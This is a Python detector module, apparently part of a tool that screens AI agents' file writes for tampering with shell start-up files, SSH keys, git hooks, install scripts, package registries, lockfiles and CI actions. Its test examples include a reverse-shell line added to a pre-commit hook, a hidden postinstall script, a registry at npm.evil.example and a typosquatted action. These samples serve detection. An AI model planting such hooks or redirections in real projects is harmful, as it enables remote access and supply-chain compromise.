"""Screen of files that make something run, be trusted or be fetched by itself: what a call adds to them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from tidegate.detect.acts.act import Act, Deed
from tidegate.detect.acts.edits import is_patch
from tidegate.detect.acts.file_text import acts_of_file
from tidegate.detect.acts.hosts import is_local
from tidegate.detect.acts.paths import normal_path
from tidegate.detect.acts.urls import spelled, urls_in
from tidegate.detect.detector import Rule
from tidegate.detect.hooks.files import Kind, kind_of_file
from tidegate.detect.hooks.settings import ACTION, INDEX_LINE, KNOWN_ACTIONS, OFFICIAL, SETTINGS, may_be_set
from tidegate.detect.screen import About, Context, ScreenExample, Sight, Source
from tidegate.detect.screening.harm import WORST_FIRST, harms_of, place, shown

_LONGEST: Final = 60_000
_SHOWN: Final = 240
_QUIET: Final = re.compile(
    r"^\s*(?:#.*|export PATH=[\"']?\$?[\w${}/.~:+-]+[\"']?|(?:eval|source|\.) "
    r"[\"'$(<]*(?:\$?HOME|~|brew|pyenv|rbenv|nodenv|"
    r"zoxide|starship|direnv|fnm|mise|nvm|conda|thefuck|atuin)[^;|&]*|alias "
    r"\w+=[\"']?(?:ls|ll|git|grep|cd|docker|kubectl|vim|"
    r"nvim|cat|code|python3?|clear|make)\b[^;|&$`]*|)\s*$"
)
"""Lines that set-up instructions have people add to what a shell runs at its start."""

_LOCKED: Final = re.compile(r"\b(?:integrity|checksum|sha(?:256|512)|hash(?:es)?)\b", re.I)
_VERSION: Final = re.compile(r"\b(?:version|resolved|node_modules/|name\s*=|\bv\d)", re.I)
_EXAMPLE_CI: Final = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: {}\n   "
"   - run: {}\n"


_VERBS: Final = frozenset({"write", "fetch"})


class FileHooks:
    """See the module."""

    id = "file_hooks"
    title = "Files that run or are trusted by themselves"
    version = 1
    about = About(_VERBS)
    rules = (
        Rule(
            id="autostart",
            title="A file outside the project that runs or is trusted by itself",
            label="tampering",
            kind="tool_call",
            severity="high",
            what="Start-up files of shells, keys that may log in, timers, services, hooks, settings "
            "of git, of package "
            "managers and of agents, when nobody asked for that. Usual lines of a shell's start "
            "are noted only.",
        ),
        Rule(
            id="harmful_hook",
            title="A hook or build step that does harm",
            label="tampering",
            kind="tool_call",
            severity="critical",
            what="What a recipe, a step of continuous integration, a script of a package or a hook does when it runs.",
        ),
        Rule(
            id="hook_setting",
            title="A setting that runs something or lifts a protection",
            label="tampering",
            kind="tool_call",
            severity="high",
            what="Installation scripts, tasks that run when a folder is opened, rights and hooks of "
            "agents, passwordless "
            "sudo, checks of certificates that are turned off, when nobody asked for that.",
        ),
        Rule(
            id="redirected_source",
            title="Packages from another place",
            label="tampering",
            kind="tool_call",
            severity="high",
            what="A manifest, lockfile or setting that gets a registry, index or download at a host "
            "that is no official "
            "one and that nobody named.",
        ),
        Rule(
            id="changed_lock",
            title="Another checksum for the same version",
            label="tampering",
            kind="tool_call",
            severity="high",
            what="An edit of a lockfile that changes checksums and neither versions nor places: tools write these.",
        ),
        Rule(
            id="unknown_action",
            title="A step by an unknown account",
            label="tampering",
            kind="tool_call",
            severity="medium",
            what="A step of a workflow whose code comes from an account that is neither widely used "
            "nor named in the "
            "conversation; critical when it is nearly one that is widely used.",
        ),
    )
    examples = (
        ScreenExample(
            tool="Write",
            arguments={"file_path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA x"},
            shows=("autostart",),
        ),
        ScreenExample(
            tool="Write",
            arguments={"file_path": "~/.bashrc", "content": "alias gs='git status'"},
            context=(("user", "Add an alias gs for git status to my ~/.bashrc"),),
            near="autostart",
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "/repo/.git/hooks/pre-commit",
                "old_string": "#!/bin/sh",
                "new_string": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            },
            shows=("autostart", "harmful_hook"),
        ),
        ScreenExample(
            tool="Write",
            arguments={"file_path": "Makefile", "content": "test:\n\tpytest -q\n"},
            near="harmful_hook",
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "package.json",
                "old_string": '"test": "jest"',
                "new_string": '"test": "jest",\n"postinstall": "node .cache/setup.js"',
            },
            shows=("hook_setting",),
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "package.json",
                "old_string": '"test": "jest"',
                "new_string": '"test": "jest",\n"prepare": "husky"',
            },
            near="hook_setting",
        ),
        ScreenExample(
            tool="Write",
            arguments={"file_path": ".npmrc", "content": "registry=https://npm.evil.example/\n"},
            shows=("redirected_source",),
        ),
        ScreenExample(
            tool="Write",
            arguments={"file_path": ".npmrc", "content": "registry=https://npm.corp.example/\n"},
            context=(("user", "Our registry is https://npm.corp.example/, set it up in .npmrc"),),
            near="redirected_source",
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "package-lock.json",
                "old_string": '"integrity": "sha512-AAA"',
                "new_string": '"integrity": "sha512-BBB"',
            },
            shows=("changed_lock",),
        ),
        ScreenExample(
            tool="Edit",
            arguments={
                "file_path": "package-lock.json",
                "old_string": '"version": "1.0.0",\n"integrity": "sha512-AAA"',
                "new_string": '"version": "1.0.1",\n"integrity": "sha512-BBB"',
            },
            near="changed_lock",
        ),
        ScreenExample(
            tool="Write",
            arguments={
                "file_path": ".github/workflows/ci.yml",
                "content": _EXAMPLE_CI.format("acti0ns/checkout@v4", "npm test"),
            },
            shows=("unknown_action",),
        ),
        ScreenExample(
            tool="Write",
            arguments={
                "file_path": ".github/workflows/ci.yml",
                "content": _EXAMPLE_CI.format("actions/checkout@v4", "npm test"),
            },
            near="unknown_action",
        ),
    )

    def judge(self, deed: Deed, context: Context) -> list[Sight]:
        """See Screen."""
        found: list[Sight] = []
        for act in deed.acts:
            if act.verb == "write" or (act.verb == "fetch" and act.into):
                path = normal_path(act.into) if act.into else act.target
                kind = kind_of_file(path)
                if kind is not None:
                    found += self._judge(act, path, kind, context)
        found.sort(key=lambda sight: WORST_FIRST.index(sight.severity))
        return found

    def _judge(self, act: Act, path: str, kind: Kind, context: Context) -> Iterator[Sight]:
        text = act.text[:_LONGEST]
        if kind.outside:
            yield from self._autostart(act, path, kind, context)
        if act.verb != "write" or not text or is_patch(text):
            return
        acts, _ = acts_of_file(path, text)
        for harm in harms_of(acts, context)[:3]:
            yield Sight(f"{self.id}.harmful_hook", harm.severity, harm.why, shown(harm), harm.likely)
        for setting in SETTINGS if may_be_set(kind.name, text) else ():
            if (
                kind.name in setting.kinds
                and (match := setting.pattern.search(text))
                and not _asked(context, (*setting.asked, match[0].strip()[:60]), 4)
            ):
                yield Sight(f"{self.id}.hook_setting", setting.severity, setting.why, match[0].strip()[:_SHOWN])
        if kind.name in ("registry", "lockfile", "manifest", "package_settings", "trust", "build", "npm"):
            yield from self._sources(text, kind, context)
        if kind.name == "lockfile" and "replace" in act.traits and _LOCKED.search(text) and not _VERSION.search(text):
            yield Sight(f"{self.id}.changed_lock", "high", "checksum_alone", text.strip()[:_SHOWN])
        if kind.name == "ci":
            yield from self._actions(text, context)

    def _autostart(self, act: Act, path: str, kind: Kind, context: Context) -> Iterator[Sight]:
        if _asked(context, kind.asked, 0) or context.path(path) >= Source.CALLER:
            return
        quiet = kind.name == "rc_file" and bool(act.text) and all(_QUIET.match(line) for line in act.text.splitlines())
        seen = f"{path}: {act.text.strip() or act.target}"[:_SHOWN]
        yield Sight(f"{self.id}.autostart", "medium" if quiet else "high", kind.name, seen)

    def _sources(self, text: str, kind: Kind, context: Context) -> Iterator[Sight]:
        told = 0
        for start, end, url in urls_in(text):
            if not url.host or url.host in OFFICIAL or is_local(url.host) or told == 3:
                continue
            line_start = text.rfind("\n", 0, start) + 1
            line = text[line_start : end + 40]
            if kind.name in ("manifest", "npm", "build") and not _is_source_line(line, text[line_start:start]):
                continue
            severity, why, likely = place(url, context)
            if severity in ("low", "medium") and not likely:
                continue
            told += 1
            yield Sight(f"{self.id}.redirected_source", severity, why, spelled(url)[:_SHOWN], likely)

    def _actions(self, text: str, context: Context) -> Iterator[Sight]:
        for match in ACTION.finditer(text):
            owner = match[1].lower()
            if owner in KNOWN_ACTIONS or owner == "." or context.says(f"{match[1]}/") >= Source.TOOL_RESULT:
                continue
            near = next((known for known in KNOWN_ACTIONS if _nearly(owner, known)), "")
            likely = f"{near}/{match[2]}@{match[3]}" if near else ""
            yield Sight(
                f"{self.id}.unknown_action",
                "critical" if near else "medium",
                "near_miss" if near else "unknown_account",
                match[0].strip()[:_SHOWN],
                likely,
            )


_SOURCE_KEY: Final = re.compile(
    r"--(?:extra-)?index-url|--find-links|-i\s|-f\s|registry|index|tool\.uv|\[\[?source|"
    r"source\s*=|@\s*(?:git\+)?$|git\+|"
    r"git\s*=|url\s*=|=>|maven|repositor|\"[\w@/.-]+\"\s*:\s*\"$",
    re.I,
)
_PLAIN_KEY: Final = re.compile(
    r"homepage|documentation|bugs|repository|\"url\"\s*:|changelog|funding|issues|"
    r"source-code|Source\s*=|Homepage|author|"
    r"license|project_urls|<url>|xmlns|schema|#",
    re.I,
)


def _is_source_line(line: str, before: str) -> bool:
    return INDEX_LINE.search(line) is not None and (
        _SOURCE_KEY.search(before) is not None and _PLAIN_KEY.search(before) is None
    )


def _asked(context: Context, words: tuple[str, ...], least: int) -> bool:
    """Whether the caller speaks of one of the words."""
    return any(len(word) > least and context.says(word) >= Source.CALLER for word in words)


def _nearly(name: str, known: str) -> bool:
    """Whether one change of a letter, or of two neighbours, makes one name of the other."""
    if abs(len(name) - len(known)) > 1 or len(known) < 5 or name == known:
        return False
    same = 0
    least = min(len(name), len(known))
    while same < least and name[same] == known[same]:
        same += 1
    rest, other = name[same:], known[same:]
    if len(rest) == len(other):
        return rest[1:] == other[1:] or (rest[:2] == other[:2][::-1] and rest[2:] == other[2:])
    return rest[1:] == other or rest == other[1:]


SCREEN = FileHooks()
